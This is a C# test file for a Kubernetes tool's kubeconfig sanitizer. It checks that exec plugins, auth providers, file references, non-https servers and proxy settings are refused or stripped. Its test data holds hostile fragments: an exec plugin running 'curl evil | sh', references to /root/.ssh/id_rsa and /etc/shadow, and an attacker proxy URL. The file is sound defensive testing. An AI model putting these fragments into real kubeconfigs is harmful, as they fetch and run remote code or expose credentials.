using Ksctl.Core.Clusters;
using Ksctl.Core.Configuration;
using Ksctl.Core.Diagnostics;
using Ksctl.Core.Kube;
using Ksctl.Core.Model;
using Ksctl.Core.Storage;

namespace Ksctl.Core.Tests.Kube;

/// <summary>
/// Issue #12 item 4: a kubeconfig read from a node or a cloud API keeps only the server, certificate-authority-data,
/// client certificate/key data or a token; exec, auth-provider, file references and a non-https server are refused
/// before anything is stored or merged.
/// </summary>
[Collection(ProcessEnvironmentCollection.Name)] // KSCTL_HOME
public sealed class KubeconfigSanitizerTests : IDisposable
{
    private readonly TempDir _dir = new("ksctl-sanitize");
    public void Dispose() => _dir.Dispose();

    private static string NodeKubeconfig(string clusterExtra = "", string userExtra = "", string server = "https://127.0.0.1:6443", string credentials = """
            client-certificate-data: Q0VSVCBEQVRB
            client-key-data: S0VZIERBVEE=
        """) => $"""
        apiVersion: v1
        kind: Config
        current-context: default
        clusters:
        - name: default
          cluster:
            certificate-authority-data: Q0EgREFUQQ==
            server: {server}
        {clusterExtra}
        contexts:
        - name: default
          context:
            cluster: default
            user: default
        users:
        - name: default
          user:
        {credentials}
        {userExtra}
        """;

    public static TheoryData<string, string, string> HostileFields => new()
    {
        { "exec", "", "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [\"-c\", \"curl evil | sh\"]" },
        { "auth-provider", "", "    auth-provider:\n      name: oidc\n      config:\n        cmd-path: /tmp/evil" },
        { "client-certificate", "", "    client-certificate: /root/.ssh/id_rsa" },
        { "client-key", "", "    client-key: /etc/shadow" },
        { "tokenFile", "", "    tokenFile: /var/run/secrets/token" },
        { "certificate-authority", "    certificate-authority: /etc/passwd", "" },
    };

    [Theory]
    [MemberData(nameof(HostileFields))]
    public void A_hostile_field_is_refused_naming_it(string field, string clusterExtra, string userExtra)
    {
        var ex = Assert.Throws<KsctlException>(() => KubeconfigFile.Normalize(NodeKubeconfig(clusterExtra, userExtra), "prod-ksctl"));

        Assert.Equal("KsctlKubeconfigRefused", ex.ErrorId);
        Assert.Equal(KsctlErrorCategory.SecurityError, ex.Category);
        Assert.Contains($"'{field}'", ex.Message);
    }

    [Theory]
    [InlineData("http://10.0.0.1:6443")]
    [InlineData("https://user:pass@10.0.0.1:6443")]
    [InlineData("ftp://10.0.0.1")]
    [InlineData("10.0.0.1:6443")]
    public void A_server_that_is_not_https_is_refused(string server)
    {
        var ex = Assert.Throws<KsctlException>(() => KubeconfigFile.Normalize(NodeKubeconfig(server: server), "prod-ksctl"));
        Assert.Equal("KsctlKubeconfigRefused", ex.ErrorId);
        Assert.Contains("https", ex.Message);
    }

    [Fact]
    public void A_server_override_that_is_not_https_is_refused_too()
    {
        var ex = Assert.Throws<KsctlException>(() => KubeconfigFile.Normalize(NodeKubeconfig(), "prod-ksctl", "http://10.0.0.10:6443"));
        Assert.Equal("KsctlKubeconfigRefused", ex.ErrorId);
    }

    [Theory]
    [InlineData("    client-certificate-data: Q0VSVCBEQVRB")] // a certificate without its key
    [InlineData("    username: admin\n    password: secret")] // basic auth only: nothing Ksctl keeps
    [InlineData("    client-certificate-data: not base64!\n    client-key-data: S0VZIERBVEE=")]
    public void Credentials_that_are_incomplete_or_malformed_are_refused(string credentials)
    {
        var ex = Assert.Throws<KsctlException>(() => KubeconfigFile.Normalize(NodeKubeconfig(credentials: credentials), "prod-ksctl"));
        Assert.Equal("KsctlKubeconfigRefused", ex.ErrorId);
    }

    [Fact]
    public void Only_server_CA_data_client_certificate_key_and_token_are_kept()
    {
        var text = KubeconfigFile.Normalize(NodeKubeconfig(
            clusterExtra: "    proxy-url: http://attacker:3128\n    insecure-skip-tls-verify: true\n    tls-server-name: evil\n    extensions:\n    - name: x\n      extension: {a: 1}",
            userExtra: "    token: abc.def\n    username: admin\n    password: secret\n    as: system:admin\n    extensions:\n    - name: y\n      extension: {}"), "prod-ksctl");

        var config = KubeconfigFile.Parse(text, "clean");
        var cluster = Assert.Single(config.Clusters).ClusterEndpoint;
        Assert.Equal("https://127.0.0.1:6443", cluster.Server);
        Assert.Equal("Q0EgREFUQQ==", cluster.CertificateAuthorityData);
        Assert.False(cluster.SkipTlsVerify);
        var user = Assert.Single(config.Users).UserCredentials;
        Assert.Equal("Q0VSVCBEQVRB", user.ClientCertificateData);
        Assert.Equal("S0VZIERBVEE=", user.ClientKeyData);
        Assert.Equal("abc.def", user.Token);
        foreach (var gone in new[] { "proxy-url", "insecure-skip-tls-verify", "tls-server-name", "extensions", "username", "password", "as:", "attacker", "evil" })
            Assert.DoesNotContain(gone, text);
    }

    [Fact]
    public async Task A_refused_kubeconfig_is_never_merged_the_users_file_stays_byte_identical()
    {
        var target = _dir.Combine("config");
        const string original = "apiVersion: v1\nkind: Config\n# mine\ncontexts: []\n";
        File.WriteAllText(target, original);

        var ex = await Assert.ThrowsAsync<KsctlException>(() => KubeconfigFile.MergeAsync(
            NodeKubeconfig(userExtra: "    exec:\n      command: /bin/sh"), "prod-ksctl", target, null, null, CancellationToken.None));

        Assert.Equal("KsctlKubeconfigRefused", ex.ErrorId);
        Assert.Equal(original, File.ReadAllText(target));
        Assert.Equal(["config"], Directory.GetFileSystemEntries(_dir.Path).Select(Path.GetFileName));
    }

    [Fact]
    public async Task A_tampered_kubeconfig_in_state_is_KsctlStateInvalid_and_nothing_is_written()
    {
        using var env = new EnvironmentScope().Set(KsctlSettings.HomeVariable, _dir.Path);
        var settings = KsctlSettings.Load(_dir.Path);
        var id = Samples.LocalId("demo");
        var now = DateTimeOffset.UtcNow;
        var state = new ClusterState { Id = id, Spec = new ClusterSpec { Id = id }, Status = ClusterStatus.Running, CreatedAt = now, UpdatedAt = now, ContextName = "kind-demo" };
        state.Secrets[ClusterState.KubeconfigSecret] = NodeKubeconfig(userExtra: "    exec:\n      command: /bin/sh");
        await new FileStateStore(settings.StatePath).WriteAsync(state, CancellationToken.None);
        using var manager = new ClusterManager(settings);
        var target = _dir.Combine("kube", "config");

        var switched = await Assert.ThrowsAsync<KsctlException>(() => manager.SwitchContextAsync(id, target, CancellationToken.None));
        var got = await Assert.ThrowsAsync<KsctlException>(() => manager.GetKubeconfigAsync(id, null, CancellationToken.None));

        Assert.Equal("KsctlStateInvalid", switched.ErrorId);
        Assert.Equal("KsctlStateInvalid", got.ErrorId);
        Assert.Contains("exec", switched.Message);
        Assert.False(File.Exists(target));
    }

    [Fact]
    public void Names_and_tokens_that_YAML_would_read_as_numbers_or_booleans_are_quoted()
    {
        // kubectl turns YAML into JSON first (sigs.k8s.io/yaml): a plain `0123` or `true` would not be a string.
        var text = KubeconfigFile.Normalize(NodeKubeconfig(credentials: "    token: \"true\""), "0123");

        Assert.Contains("current-context: \"0123\"", text);
        Assert.Contains("token: \"true\"", text);
        Assert.Contains("name: \"0123\"", text);
    }

    [Fact]
    public async Task A_hostile_kubeconfig_from_the_provider_fails_the_step_and_is_never_stored()
    {
        // A kind that answers `get kubeconfig` with an exec plugin (what a compromised node or API could return);
        // everything else goes to the kind stand-in.
        using var bin = new TempDir("ksctl-bin");
        var kind = bin.Combine("kind");
        File.WriteAllText(kind, $"""
            #!/usr/bin/env bash
            if [[ "$1" == get && "$2" == kubeconfig ]]; then
            cat <<'YAML'
            {NodeKubeconfig(userExtra: "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']")}
            YAML
            exit 0
            fi
            exec {Path.Combine(Samples.StandinsDirectory(), "kind")} "$@"
            """.Replace("\r\n", "\n"));
        File.SetUnixFileMode(kind, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
        File.CreateSymbolicLink(bin.Combine("docker"), Path.Combine(Samples.StandinsDirectory(), "docker"));
        var kindState = _dir.Combine("kind-state");
        using var env = new EnvironmentScope()
            .Set("PATH", string.Join(Path.PathSeparator, bin.Path, "/usr/bin", "/bin"))
            .Set(KsctlSettings.HomeVariable, _dir.Path)
            .Set("KIND_STANDIN_STATE", kindState).Set("KIND_STANDIN_LOG", null).Set("KIND_STANDIN_FAIL_CREATE", null)
            .Set("KIND_STANDIN_CREATE_DELAY", null).Set("DOCKER_STANDIN_DOWN", null);
        var settings = KsctlSettings.Load(_dir.Path);
        using var manager = new ClusterManager(settings);
        var id = Samples.LocalId("hostile");

        var failed = await Assert.ThrowsAnyAsync<KsctlException>(() => manager.CreateAsync(new ClusterSpec { Id = id }, OperationOptions.Default, CancellationToken.None));

        Assert.Equal("KsctlCreationFailed", failed.ErrorId);
        Assert.Contains("exec", failed.Message);
        var state = await manager.GetAsync(id, CancellationToken.None);
        Assert.Equal(ClusterStatus.CreationFailed, state.Status);
        Assert.False(state.Secrets.ContainsKey(ClusterState.KubeconfigSecret));
        Assert.DoesNotContain("curl evil", string.Concat(Directory.GetFiles(settings.StatePath, "*", SearchOption.AllDirectories).Select(File.ReadAllText)));
    }
}
